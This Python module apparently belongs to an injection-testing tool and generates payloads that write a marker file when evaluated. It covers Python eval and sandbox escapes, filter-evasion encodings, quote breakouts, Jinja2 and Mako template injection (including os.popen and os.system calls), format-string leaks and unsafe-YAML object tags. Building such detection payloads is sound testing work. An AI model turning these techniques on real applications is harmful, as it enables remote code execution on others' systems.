"""Python code, templates and documents that write a marker when something evaluates them.

`path` is the marker's file, `product` the sum (`1010*7919`) whose value must end up in it.
"""

from __future__ import annotations


def expression(path: str, product: str) -> str:
    """An expression that writes the marker in any namespace that has the builtins."""
    return f"__import__('builtins').open({path!r},'w').write(str({product}))"


def bare_expression(path: str, product: str) -> str:
    """An expression that writes the marker even where `__builtins__` is empty."""
    return _without_builtins("()", path, product)["classes"]


def attacks(value: str, path: str, product: str) -> dict[str, str]:
    """Named expressions and statements around an ordinary value; a name tells which filter the payload is made for."""
    write = f"open({path!r},'w').write('%d'%({product}))"
    return {
        "expression": expression(path, product),
        "open": write,
        **_expressions(value, write, product, path),
        **_statements(value, write),
        **_without_words(path, product, write),
        **_without_builtins(value, path, product),
        **_breakouts(value, write),
    }


def _expressions(value: str, write: str, product: str, path: str) -> dict[str, str]:
    return {
        "within brackets": f"({write})",
        "added to the value": f"{value}+{write}",
        "argument of a function": f"max({value},{write})",
        "argument of abs": f"abs({write})",
        "list": f"[{value},{write}]",
        "tuple and index": f"({write},{value})[1]",
        "conditional": f"{value} if {write} else {value}",
        "either": f"{write} or {value}",
        "lambda": f"(lambda: {write})()",
        "default of a lambda": f"(lambda x={write}: x)()",
        "comprehension": f"[{write} for _ in (1,)]",
        "f-string": f'f"{{{write}}}"',
        "assignment expression": f"(x := {write})",
        "dictionary": f"{{{write}: {value}}}",
        "index": f"[{value}][{write}-{write}]",
        "os.system": f"__import__('os').system('echo $(({product}))>{path}')",
    }


def _statements(value: str, write: str) -> dict[str, str]:
    return {
        "statement": f"x = {write}",
        "after a semicolon": f"{value};{write}",
        "after a line": f"{value}\n{write}",
        "import statement": f"import os\n{write}",
        "exec": f"exec({write!r})",
        "decorator": f"@(lambda f: {write})\nclass x: pass",
    }


def _without_words(path: str, product: str, write: str) -> dict[str, str]:
    characters = "+".join(f"chr({ord(character)})" for character in path)
    rest = f"({path!r},'w').write('%d'%({product}))"
    return {
        "no quotes": f"open({characters},chr(119)).write(str({product}))",
        "no dots, no quotes": f"print({product},file=open({characters},chr(119)))",
        "no word open": f"getattr(__import__('built'+'ins'),'op'+'en'){rest}",
        "no import, no open": f"vars(print.__self__)['op'+'en']{rest}",
        "letters of another alphabet": f"𝒐𝒑𝒆𝒏{rest}",
        "import in another alphabet": f"__𝒊𝒎𝒑𝒐𝒓𝒕__('builtins').open{rest}",
        "spaces between": f"open ({path!r} , 'w') . write ( '%d' % ({product}) )",
        "eval of parts": f"eval('op'+'en'){rest}",
        "eval of codes": f"eval(bytes({list(write.encode())}).decode())",
        "escapes": f"eval('{''.join(f'{chr(92)}x{ord(c):02x}' for c in write)}')",
    }


def _without_builtins(value: str, path: str, product: str) -> dict[str, str]:
    """For namespaces with an empty `__builtins__`."""
    rest = f"({path!r},'w').write('%d'%({product}))"
    classes = ".__class__.__base__.__subclasses__()"
    importer = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='BuiltinImporter'][0]"
    return {
        "classes": f"{importer}.load_module('builtins').open{rest}",
        "classes, from the value": f"[c for c in ({value}).__class__.__mro__[-1].__subclasses__() "
        f"if c.__name__=='BuiltinImporter'][0].load_module('builtins').open{rest}",
        "globals of a class": "[c.__init__.__globals__ for c in ()" + classes + " if '__globals__' in "
        f"c.__init__.__class__.__dict__][0]['__builtins__']['open']{rest}",
        "frames of a generator": "(lambda g:[g.append(i.gi_frame.f_back.f_back.f_back.f_builtins for i in g),*g[0]][1])"
        f"([])['open']{rest}",
    }


def _breakouts(value: str, write: str) -> dict[str, str]:
    """For values that are pasted into a larger piece of source."""
    double = write.replace("'", '"')
    return {
        "closed single quote": f"{value}'+str({double})+'",
        "closed double quote": f'{value}"+str({write})+"',
        "closed single quote, statement": f"{value}';{double};'",
        "closed double quote, statement": f'{value}";{write};"',
        "closed bracket": f"{value})+({write}",
        "closed call": f"{value});({write}",
        "comment after it": f"{value}+{write}#",
        "line of its own": f"{value}\n{write}\n",
        "indented line of its own": f"{value}\n    {write}\n",
        "field of an f-string": f"{{{double}}}",
    }


def templates(value: str, path: str, product: str) -> dict[str, str]:
    """Templates that write the marker when rendered: Jinja2 by several roads, Mako, and home-made `${…}` or `{…}`."""
    rest = f"({path!r},'w').write('%d'%({product}))"
    from_globals = f".__init__.__globals__['__builtins__']['open']{rest}"
    shell = f"('echo $(({product}))>{path}').read()"
    jinja = {
        "cycler": f"cycler{from_globals}",
        "namespace": f"namespace{from_globals}",
        "lipsum": f"lipsum.__globals__['__builtins__']['open']{rest}",
        "lipsum and os": f"lipsum.__globals__.os.popen{shell}",
        "self": f"self{from_globals}",
        "attr filter": "(lipsum|attr('__glo'~'bals__'))['__buil'~'tins__']['open']" + rest,
        "request": f"request.application.__globals__['__builtins__']['open']{rest}",
        "config": f"config{from_globals}",
        "url_for": f"url_for.__globals__['__builtins__']['open']{rest}",
        "classes": "(''.__class__.__mro__[1].__subclasses__()"
        f"|selectattr('__name__','equalto','BuiltinImporter')|first).load_module('builtins').open{rest}",
    }
    found = {f"Jinja2, {name}": f"{value}{{{{ {code} }}}}" for name, code in jinja.items()}
    found["Jinja2, statement"] = f"{value}{{% set x = {jinja['lipsum']} %}}"
    found["Jinja2, closed expression"] = f"{value}' }}}}{{{{ {jinja['lipsum']} }}}}{{{{ '"
    plain = f"open{rest}"
    found |= {
        "Mako": f"{value}${{{plain}}}",
        "Mako, block": f"{value}<% {plain} %>",
        "Mako, line": f"{value}\n% if {plain}:\n% endif\n",
        "single braces": f"{value}{{{plain}}}",
        "double braces": f"{value}{{{{{plain}}}}}",
        "angle brackets": f"{value}<%= {plain} %>",
        "at sign": f"{value}@({plain})",
    }
    return found


def format_leaks(variable: str, fields: tuple[str, ...] = ("0", "")) -> dict[str, str]:
    """Strings that read a module's global `variable` through `str.format`, by the names of its fields."""
    roads = ("__init__.__globals__", "__class__.__init__.__globals__", "__globals__", "__func__.__globals__")
    return {f"{field or 'next'}.{road}": f"{{{field}.{road}[{variable}]}}" for field in fields for road in roads}


def yamls(code: str) -> dict[str, str]:
    """YAML documents that run the expression when a loader makes Python objects of tags."""
    text = '"' + code.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return {
        "apply eval": f"!!python/object/apply:eval [{text}]",
        "apply builtins.eval": f"!!python/object/apply:builtins.eval [{text}]",
        "apply exec": f"!!python/object/apply:builtins.exec\nargs: [{text}]\n",
        "new": f"!!python/object/new:eval [{text}]",
        "new with arguments": f"!!python/object/new:builtins.eval\nargs: [{text}]\n",
        "within a mapping": f"title: x\nitems:\n  - !!python/object/apply:builtins.eval [{text}]\n",
        "as a key": f"? !!python/object/apply:builtins.eval [{text}]\n: 1\n",
        "long tag": f"!<tag:yaml.org,2002:python/object/apply:builtins.eval> [{text}]",
        "declared tag": f"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:builtins.eval [{text}]",
        "map": "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [" + text + "]]]",
    }
